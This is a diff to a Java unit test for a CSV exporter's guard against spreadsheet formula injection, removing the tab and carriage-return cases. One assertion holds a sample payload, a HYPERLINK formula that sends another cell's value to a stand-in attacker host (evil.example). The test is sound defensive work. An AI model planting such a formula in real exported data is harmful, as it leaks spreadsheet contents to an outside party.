@@ -39,8 +39,6 @@ class CsvExportTest {
         assertTrue(text.contains(",'+1 415 555 0100,"), text);
         assertTrue(text.contains(",'-3,"), text);
         assertTrue(text.contains(",'@SUM(A1),"), text);
-        assertTrue(text.contains(",'\tx,"), text);
-        assertTrue(text.contains("\"'\rx\""), text);
         assertTrue(text.contains(",''=already quoted,"), text);
         assertTrue(text.contains(",'tis plain,"), "an apostrophe before anything else stays as it is: " + text);
         assertFalse(text.matches("(?s).*,[=+\\-@].*"), "no cell starts with a formula character: " + text);
@@ -64,7 +62,6 @@ class CsvExportTest {
         assertTrue(text.contains(",\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\","), text);
         assertTrue(text.contains("," + PHONE + ","), text);
         assertTrue(text.contains(",-3,") && text.contains(",@SUM(A1),"), text);
-        assertTrue(text.contains(",\"\tx\",") && text.contains(",\"\rx\","), text);
         assertFalse(text.contains(",'+") || text.contains(",'-") || text.contains("\"'=") || text.contains("'\t"), text);
     }
 
@@ -86,8 +83,8 @@ class CsvExportTest {
         lead.setPhone(PHONE);
         lead.setCompany("@SUM(A1)");
         lead.setTitle("-3");
-        lead.setCity("\tx");
-        lead.setTechnologies("\rx");
+        // A leading tab or carriage return is guarded too (theGuardIsUndoneExactlyForEveryValue), but no lead
+        // field may hold one any more: one-line text refuses control characters (RecordRules).
         lead.setIndustry("'=already quoted");
         lead.setCountry("'tis plain");
         return lead;
